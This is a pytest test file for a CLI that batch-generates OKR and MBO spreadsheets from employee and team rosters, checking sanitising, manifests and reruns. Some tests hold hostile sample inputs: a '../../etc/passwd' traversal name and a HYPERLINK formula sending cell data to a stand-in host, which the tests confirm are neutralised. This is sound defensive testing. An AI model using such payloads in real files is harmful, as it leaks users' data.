"""`perftemplates batch`: hostile rosters in; safe files, a manifest, exit codes out."""

import datetime as dt
import hashlib
import json
import os
import re
import signal
import subprocess
import sys
import time
import unicodedata
import zipfile
from pathlib import Path

import pytest

import perftemplates
from perftemplates.cli import main
from perftemplates.templates import find_template, render

CASES = Path(__file__).parent / "data" / "cases"
AS_OF = "2026-07-01"


@pytest.fixture
def run(capsys):
    """Run the CLI in-process: (exit code, stdout, stderr)."""

    def run_main(*argv: str) -> tuple[int, str, str]:
        try:
            main([*argv, "--as-of", AS_OF])
        except SystemExit as exit_:
            code = exit_.code
        else:
            code = 0
        captured = capsys.readouterr()
        return code, captured.out, captured.err

    return run_main


@pytest.fixture
def batch(run, tmp_path):
    """`batch TEMPLATE --roster CASE --out tmp/out ...`: (code, out, err, folder)."""

    def run_batch(template: str, case: str, *options: str):
        out = tmp_path / "out"
        roster = case if os.sep in case else str(CASES / case)
        code, stdout, stderr = run(
            "batch", template, "--roster", roster, "--out", str(out), *options
        )
        return code, stdout, stderr, out

    return run_batch


def _manifest(out: Path) -> dict:
    return json.loads((out / "manifest.json").read_text(encoding="utf-8"))


def _setting(read_workbook, path: Path, name: str):
    """The cell behind a defined name, such as the Settings sheet's team."""
    book = read_workbook(path.read_bytes())
    sheet, cell = next(iter(book.defined_names[name].destinations))
    return book[sheet][cell.replace("$", "")]


def _xlsx(out: Path) -> list[str]:
    return sorted(path.name for path in out.glob("*.xlsx"))


# Hostile rosters


def test_unsafe_names_give_safe_unique_files_inside_the_folder(batch, read_workbook):
    code, _, _, out = batch("okr", "teams-unsafe-names.csv", "--workers", "2")

    assert code == 0
    assert _xlsx(out) == sorted(
        name + ".xlsx"
        for name in [
            "CON_",
            "aux_.Sales",
            "Ops",
            "_.._etc_passwd",
            "A_B Team",
            "Sales_EMEA",
            "Sales",
            "SALES (2)",
            "R&D_Ops",
            "R&D_Ops (2)",
            "row-12",
            "Northwind Regional Sales and Partner Enablement Team for the Greater "
            "Example Metropolitan Area 2027",
        ]
    )
    assert {path.parent for path in out.rglob("*")} == {out}
    traversal = _setting(read_workbook, out / "_.._etc_passwd.xlsx", "team")
    assert traversal.value == "../../etc/passwd"
    assert _setting(read_workbook, out / "R&D_Ops (2).xlsx", "team").value == "R&D:Ops"


def test_formula_like_text_is_shown_as_text(batch, read_workbook):
    code, _, _, out = batch("okr", "teams-formula-text.csv")

    assert code == 0
    assert _xlsx(out) == [
        "00123.xlsx",
        "=1+1.xlsx",
        "Alpha.xlsx",
        "Beta.xlsx",
        "Gamma.xlsx",
    ]
    expected = {
        "Alpha": ("Alpha", '=HYPERLINK("http://evil.invalid/?d="&A1,"Open")'),
        "Beta": ("Beta", "@SUM(1,1)"),
        "Gamma": ("Gamma", "-1+2"),
        "=1+1": ("=1+1", "Dan Example"),
        "00123": ("00123", "Eve Example"),
    }
    for name, (team, owner) in expected.items():
        path = out / f"{name}.xlsx"
        cells = [_setting(read_workbook, path, key) for key in ("team", "owner")]
        assert [cell.value for cell in cells] == [team, owner]
        assert [cell.data_type for cell in cells] == ["s", "s"]
        assert not cells[1].parent._hyperlinks


def test_unicode_names_are_intact_and_nfc_in_files_and_zip(batch, read_workbook):
    code, _, _, out = batch("okr", "teams-unicode.csv", "--zip")

    assert code == 0
    nfc = unicodedata.normalize("NFC", "Équipe Müller")
    assert (out / f"{nfc}.xlsx").exists()
    assert _setting(read_workbook, out / f"{nfc}.xlsx", "team").value == nfc
    assert (out / "🚀 Launch Squad.xlsx").exists()
    assert _setting(read_workbook, out / "فريق المبيعات.xlsx", "owner").value == (
        "دانة مثال"
    )
    with zipfile.ZipFile(out / "okr-batch.zip") as archive:
        members = archive.infolist()
        assert [info.filename for info in members] == [
            entry["file"] for entry in _manifest(out)["files"]
        ] + ["manifest.json"]
        for info in members:
            assert info.filename == unicodedata.normalize("NFC", info.filename)
            assert archive.read(info) == (out / info.filename).read_bytes()
            if not info.filename.isascii():
                assert info.flag_bits & 0x800  # the name is flagged as UTF-8


def test_a_byte_order_mark_is_not_part_of_the_first_header(batch):
    code, stdout, _, out = batch("okr", "teams-bom.csv")

    assert code == 0
    assert _xlsx(out) == ["Alpha.xlsx", "Beta.xlsx"]
    assert "\ufeff" not in (out / "manifest.json").read_text(encoding="utf-8")
    assert stdout.startswith("2 written, 0 unchanged, 0 failed of 2 files in ")


def test_bad_rows_are_reported_and_the_good_ones_produced(batch):
    code, _, stderr, out = batch("mbo", "employees-bad-rows.csv")

    roster = CASES / "employees-bad-rows.csv"
    assert code == 1
    assert stderr.splitlines() == [
        f"{roster}: row 3: Base Salary: expected a number; found 'abc'",
        f"{roster}: row 5: Employee: empty; every row needs one",
        f"{roster}: row 6: Target Bonus Pct: expected a number; found 'eight'",
    ]
    assert _xlsx(out) == ["Ana Example.xlsx", "Cleo Example.xlsx"]
    statuses = [(e["row"], e["status"]) for e in _manifest(out)["files"]]
    assert statuses == [
        (2, "written"),
        (3, "failed"),
        (4, "written"),
        (5, "failed"),
        (6, "failed"),
    ]


def test_decimal_commas_fill_the_numbers_with_decimal_option(batch, read_workbook):
    code, _, _, out = batch("mbo", "employees-semicolon.csv", "--decimal", ",")

    assert code == 0
    salaries = [
        _setting(read_workbook, out / f"{name} Example.xlsx", "base_salary").value
        for name in ("Ana", "Ben", "Cleo")
    ]
    assert salaries == [58500.0, 61250.5, 72000.0]
    bonus = _setting(read_workbook, out / "Ana Example.xlsx", "target_bonus_pct")
    assert bonus.value == 0.125


def test_decimal_commas_without_the_option_are_errors_not_numbers(batch):
    code, _, stderr, out = batch("mbo", "employees-semicolon.csv")

    assert code == 1
    assert _xlsx(out) == []
    assert [line.split(": ")[1] for line in stderr.splitlines()] == [
        "row 2",
        "row 3",
        "row 4",
    ]
    assert "--decimal" in stderr


def test_strict_writes_nothing_when_a_row_is_bad(batch):
    code, stdout, stderr, out = batch("mbo", "employees-bad-rows.csv", "--strict")

    assert code == 2
    assert not out.exists()
    assert stdout == ""
    assert "row 3: Base Salary: expected a number; found 'abc'" in stderr
    assert stderr.splitlines()[-1] == "Error: 3 problems found."


def test_xlsx_roster_ids_stay_text_in_names(batch, read_workbook):
    code, _, _, out = batch("okr", "teams.xlsx", "--name", "{Employee ID} {team}")

    assert code == 0
    assert _xlsx(out) == ["00123 Alpha.xlsx", "00456 Beta.xlsx", "01000 Gamma.xlsx"]
    assert _setting(read_workbook, out / "00123 Alpha.xlsx", "team").value == "Alpha"


# Options and input errors


def test_a_roster_without_a_name_column_lists_the_headers_found(batch, tmp_path):
    roster = tmp_path / "r.csv"
    roster.write_text("Owner,Notes\nAna,x\n", encoding="utf-8")

    code, _, stderr, _ = batch("okr", str(roster))

    assert code == 2
    assert "expected Team, Employee or Name; found Owner, Notes" in stderr


def test_an_unknown_name_placeholder_lists_the_columns(batch):
    code, _, stderr, _ = batch("okr", "teams-bom.csv", "--name", "{squad}")

    assert code == 2
    assert "has no column 'squad'; found Team, Owner, Owner Email" in stderr


def test_an_unknown_format_is_a_usage_error(batch):
    code, _, stderr, _ = batch("okr", "teams-bom.csv", "--format", "xlsx,pdf")

    assert code == 2
    assert "--format expects xlsx, docx or xlsx,docx; found 'xlsx,pdf'" in stderr


def test_both_formats_and_quiet(batch, read_document):
    code, stdout, _, out = batch("okr", "teams-bom.csv", "--format", "xlsx,docx", "-q")

    assert (code, stdout) == (0, "")
    assert sorted(p.name for p in out.glob("*.*x")) == [
        "Alpha.docx",
        "Alpha.xlsx",
        "Beta.docx",
        "Beta.xlsx",
    ]
    document = read_document((out / "Beta.docx").read_bytes())
    assert "Beta" in "\n".join(paragraph.text for paragraph in document.paragraphs)


def test_group_by_makes_one_file_per_team_listing_its_people(
    batch, tmp_path, read_workbook
):
    roster = tmp_path / "people.csv"
    roster.write_text(
        "Name,Team,Email\nAna,Sales,ana@x.invalid\nBen,Ops,ben@x.invalid\n"
        "Cleo,Sales,cleo@x.invalid\n",
        encoding="utf-8",
    )

    code, _, _, out = batch("okr", str(roster), "--group-by", "team")

    assert code == 0
    assert _xlsx(out) == ["Ops.xlsx", "Sales.xlsx"]
    people = read_workbook((out / "Sales.xlsx").read_bytes())["People"]
    rows = people.iter_rows(values_only=True)
    listed = [row for row in rows if "Ana" in row or "Cleo" in row]
    assert [[v for v in row if v] for row in listed] == [
        ["Ana", "Sales", "ana@x.invalid"],
        ["Cleo", "Sales", "cleo@x.invalid"],
    ]
    assert _setting(read_workbook, out / "Sales.xlsx", "team").value == "Sales"
    assert [e["row"] for e in _manifest(out)["files"]] == [2, 3]


def test_group_by_refuses_a_team_whose_rows_disagree(batch, tmp_path):
    roster = tmp_path / "people.csv"
    roster.write_text(
        "Name,Team,Quarter\nAna,Sales,Q3\nBen,Ops,Q3\nCleo,Sales,Q4\n", encoding="utf-8"
    )

    code, _, stderr, out = batch("okr", str(roster), "--group-by", "Team")

    assert code == 1
    assert _xlsx(out) == ["Ops.xlsx"]
    assert "row 2: in row 4, Quarter: 'Q4' differs from 'Q3' in row 2" in stderr


# The manifest, reruns and edits


def test_the_manifest_lists_every_file_with_its_checksum(batch):
    code, _, _, out = batch("okr", "teams-bom.csv", "--format", "xlsx,docx")

    manifest = _manifest(out)
    assert code == 0
    assert {k: manifest[k] for k in ("template", "roster", "as_of")} == {
        "template": "okr",
        "roster": "teams-bom.csv",
        "as_of": AS_OF,
    }
    assert [(e["row"], e["name"], e["file"]) for e in manifest["files"]] == [
        (2, "Alpha", "Alpha.xlsx"),
        (2, "Alpha", "Alpha.docx"),
        (3, "Beta", "Beta.xlsx"),
        (3, "Beta", "Beta.docx"),
    ]
    for entry in manifest["files"]:
        data = (out / entry["file"]).read_bytes()
        assert entry["status"] == "written"
        assert (entry["bytes"], entry["sha256"]) == (
            len(data),
            hashlib.sha256(data).hexdigest(),
        )
        assert entry["error"] is None


def test_a_rerun_reports_unchanged_files(batch):
    batch("okr", "teams-bom.csv")

    code, stdout, _, out = batch("okr", "teams-bom.csv")

    assert code == 0
    assert stdout.startswith("0 written, 2 unchanged, 0 failed of 2 files")
    assert {e["status"] for e in _manifest(out)["files"]} == {"unchanged"}


def test_an_edited_file_survives_a_rerun_without_force(batch):
    _, _, _, out = batch("okr", "teams-bom.csv")
    edited = out / "Alpha.xlsx"
    edited.write_bytes(b"the team's own work")

    code, _, stderr, _ = batch("okr", "teams-bom.csv")

    assert code == 1
    assert edited.read_bytes() == b"the team's own work"
    assert "row 2: Alpha.xlsx differs from what this run makes" in stderr
    assert "--force replaces it" in stderr
    statuses = [e["status"] for e in _manifest(out)["files"]]
    assert statuses == ["failed", "unchanged"]

    code, _, _, _ = batch("okr", "teams-bom.csv", "--force")

    assert code == 0
    assert edited.read_bytes() != b"the team's own work"


def test_the_zip_and_manifest_list_a_kept_file_as_the_folder_holds_it(batch):
    _, _, _, out = batch("okr", "teams-bom.csv")
    (out / "Alpha.xlsx").write_bytes(b"the team's own work")

    code, _, _, _ = batch("okr", "teams-bom.csv", "--zip")

    assert code == 1
    kept = _manifest(out)["files"][0]
    assert kept["status"] == "failed"
    assert kept["sha256"] == hashlib.sha256(b"the team's own work").hexdigest()
    assert kept["bytes"] == len(b"the team's own work")
    with zipfile.ZipFile(out / "okr-batch.zip") as archive:
        assert archive.namelist() == ["Alpha.xlsx", "Beta.xlsx", "manifest.json"]
        assert archive.read("Alpha.xlsx") == b"the team's own work"


def test_a_rerun_for_another_date_keeps_every_file_and_says_why(tmp_path, capsys):
    out, roster = tmp_path / "out", str(CASES / "teams-bom.csv")
    command = ["batch", "okr", "--roster", roster, "--out", str(out), "--zip"]
    main([*command, "--as-of", "2026-03-01"])
    before = {path.name: path.read_bytes() for path in out.glob("*.xlsx")}
    capsys.readouterr()

    with pytest.raises(SystemExit) as exit_:
        main([*command, "--as-of", "2026-12-03"])

    assert exit_.value.code == 1
    stderr = capsys.readouterr().err
    assert "made with --as-of 2026-03-01, this run with 2026-12-03" in stderr
    assert "rerun with --as-of 2026-03-01" in stderr
    assert {path.name: path.read_bytes() for path in out.glob("*.xlsx")} == before
    with zipfile.ZipFile(out / "okr-batch.zip") as archive:
        assert {name: archive.read(name) for name in before} == before


def test_leftovers_of_an_interrupted_run_are_removed(batch, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / ".Alpha.xlsx.abcd1234.part").write_bytes(b"half")
    (out / ".notes.txt.abcd1234.part").write_bytes(b"not ours")

    code, stdout, _, _ = batch("okr", "teams-bom.csv")

    assert code == 0
    assert not (out / ".Alpha.xlsx.abcd1234.part").exists()
    assert (out / ".notes.txt.abcd1234.part").exists()
    assert "removed 1 unfinished files of an earlier run" in stdout


# Same bytes


def test_the_same_roster_gives_byte_identical_files(run, tmp_path):
    roster = str(CASES / "teams-unicode.csv")
    folders = [tmp_path / "one", tmp_path / "two"]
    for folder, workers in zip(folders, ("1", "2"), strict=True):
        command = ["batch", "okr", "--roster", roster, "--out", str(folder)]
        run(*command, "--zip")
        run(*command, "--workers", workers)

    one, two = ({p.name: p.read_bytes() for p in f.iterdir()} for f in folders)
    assert one == two


@pytest.mark.parametrize("fmt", ["xlsx", "docx"])
def test_a_batch_file_is_the_file_render_makes(batch, run, tmp_path, fmt):
    code, _, _, out = batch("okr", "teams-formula-text.csv", "--format", fmt)

    assert code == 0
    rendered = tmp_path / "rendered"
    owner = '=HYPERLINK("http://evil.invalid/?d="&A1,"Open")'
    run(
        "render", "okr", "--format", fmt, "--out", str(rendered),
        "--set", "team=Alpha", "--set", f"owner={owner}",
    )  # fmt: skip
    assert (rendered / f"okr.{fmt}").read_bytes() == (out / f"Alpha.{fmt}").read_bytes()


@pytest.mark.parametrize("fmt", ["xlsx", "docx"])
def test_typed_roster_values_give_the_render_bytes(batch, fmt):
    code, _, _, out = batch(
        "mbo", "employees-semicolon.csv", "--decimal", ",", "--format", fmt
    )

    assert code == 0
    template = find_template("mbo")
    as_of = dt.date.fromisoformat(AS_OF)
    # The roster's 58.500,00 and 12,5 (percent points), as render takes them.
    rows = [
        ("Ana Example", "Account Executive", "Mia Example", "58500", "0.125"),
        ("Ben Example", "Sales Engineer", "Mia Example", "61250.5", "0.1"),
        ("Cleo Example", "Team Lead", "Noah Example", "72000", "0.15"),
    ]
    for employee, role, manager, salary, bonus in rows:
        overrides = {
            "employee": employee,
            "role": role,
            "manager": manager,
            "base_salary": salary,
            "target_bonus_pct": bonus,
        }
        expected = render(template, "blank", fmt, as_of, overrides)
        assert (out / f"{employee}.{fmt}").read_bytes() == expected, employee


# Interruptions


def _script(*argv: str, cwd: Path) -> subprocess.Popen:
    source = str(Path(perftemplates.__file__).resolve().parent.parent)
    path = os.pathsep.join(filter(None, [source, os.environ.get("PYTHONPATH")]))
    return subprocess.Popen(
        [sys.executable, "-m", "perftemplates", *argv, "--as-of", AS_OF],
        cwd=cwd,
        env={**os.environ, "PYTHONPATH": path},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        start_new_session=True,
    )


def _long_roster(tmp_path: Path, rows: int) -> Path:
    roster = tmp_path / "long.csv"
    lines = [f"Employee {n:04d},Analyst,{50000 + n},10" for n in range(rows)]
    roster.write_text(
        "Employee,Role,Base salary,Target bonus pct\n" + "\n".join(lines) + "\n",
        encoding="utf-8",
    )
    return roster


def _wait_for_files(out: Path, count: int, timeout: float = 60) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if out.exists() and len(list(out.glob("*.xlsx"))) >= count:
            return
        time.sleep(0.02)
    raise AssertionError(f"fewer than {count} files after {timeout} s")


def _assert_complete(out: Path, rows: int) -> None:
    """Every file under a real name is whole: the bytes render makes for its row."""
    template = find_template("mbo")
    as_of = dt.date.fromisoformat(AS_OF)
    for path in out.glob("*.xlsx"):
        n = int(path.stem.split()[-1])
        overrides = {
            "employee": path.stem,
            "role": "Analyst",
            "base_salary": str(50000 + n),
            "target_bonus_pct": "0.1",
        }
        assert path.read_bytes() == render(template, "blank", "xlsx", as_of, overrides)


@pytest.mark.parametrize("stop", [signal.SIGTERM, signal.SIGINT, signal.SIGKILL])
def test_an_interrupted_run_leaves_no_partial_file_and_a_rerun_finishes(tmp_path, stop):
    rows = 120
    roster = _long_roster(tmp_path, rows)
    out = tmp_path / "out"
    command = ["batch", "mbo", "--roster", str(roster), "--out", str(out)]

    process = _script(*command, "--workers", "1", "--quiet", cwd=tmp_path)
    _wait_for_files(out, 5)
    if stop == signal.SIGKILL:
        os.killpg(process.pid, stop)  # nothing runs after this: not even cleanup
    else:
        process.send_signal(stop)
    process.communicate(timeout=60)

    written = len(list(out.glob("*.xlsx")))
    assert process.returncode != 0
    assert 5 <= written < rows
    assert not (out / "manifest.json").exists()
    if stop != signal.SIGKILL:
        assert not list(out.glob("*.part")) and not list(out.glob(".*.part"))
    _assert_complete(out, rows)

    rerun = _script(*command, cwd=tmp_path)
    _, errors = rerun.communicate(timeout=120)

    assert rerun.returncode == 0, errors.decode()
    statuses = [e["status"] for e in _manifest(out)["files"]]
    assert statuses.count("unchanged") == written
    assert statuses.count("written") == rows - written
    assert not list(out.glob(".*.part"))
    _assert_complete(out, rows)


def test_other_roster_columns_reach_blueprint_text_as_row_values(tmp_path, run):
    blueprint = (Path(__file__).parent / "conftest.py").read_text(encoding="utf-8")
    mini = blueprint.split('MINI_BLUEPRINT = """\\\n')[1].split('"""')[0]
    path = tmp_path / "mini.yaml"
    path.write_text(
        mini.replace("title: Mini plan", 'title: "Plan: {{ row.notes }}"'),
        encoding="utf-8",
    )
    roster = tmp_path / "teams.csv"
    roster.write_text(
        "Team,Notes\nAlpha,Ship by June\nBeta,Hire two\n", encoding="utf-8"
    )
    out = tmp_path / "out"

    code, _, err = run("batch", str(path), "--roster", str(roster), "--out", str(out))

    assert (code, err) == (0, "")
    titles = {p.stem: read_title(p) for p in out.glob("*.xlsx")}
    assert titles == {"Alpha": "Plan: Ship by June", "Beta": "Plan: Hire two"}


def read_title(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        core = archive.read("docProps/core.xml").decode("utf-8")
    return re.search(r"<dc:title>(.*?)</dc:title>", core)[1]
